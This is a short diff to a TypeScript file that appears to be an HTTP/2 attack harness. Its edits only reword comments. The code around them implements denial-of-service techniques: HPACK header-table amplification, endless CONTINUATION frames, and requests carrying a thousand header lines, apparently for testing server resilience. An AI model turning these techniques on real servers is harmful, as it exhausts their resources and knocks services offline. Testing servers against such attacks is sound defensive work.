@@ -6,7 +6,7 @@ import type { Attack } from './attack.ts';
 
 // With 32 bytes for the entry itself it fills the dynamic table of 4,096 bytes.
 const tableEntry = kept('x', 'v'.repeat(3_900));
-// 16 references stand for 62 KB. More of them would be more, if it were taken.
+// 16 references stand for 62 KB. More references would stand for more, if the server took them.
 const referencesPerCall = [16, 120, 4_000];
 const callsOpenMax = 900;
 
@@ -25,7 +25,7 @@ async function amplify(attacker: Attacker): Promise<void> {
   });
 }
 
-/** CONTINUATION frames for one call, the last of which never comes. */
+/** Sends CONTINUATION frames for one call without a last one. */
 async function continueForever(
   attacker: Attacker,
   payload: Buffer,
@@ -49,7 +49,7 @@ async function continueForever(
   });
 }
 
-/** Many calls, whose headers each have so many lines. */
+/** Makes many calls with so many headers each. */
 async function manyHeaders(attacker: Attacker): Promise<void> {
   const lines = Array.from({ length: 1_000 }, (_, i) => literal(`h${i}`, ''));
   const block = callHeaders('/MessageService/Search', Buffer.concat(lines));
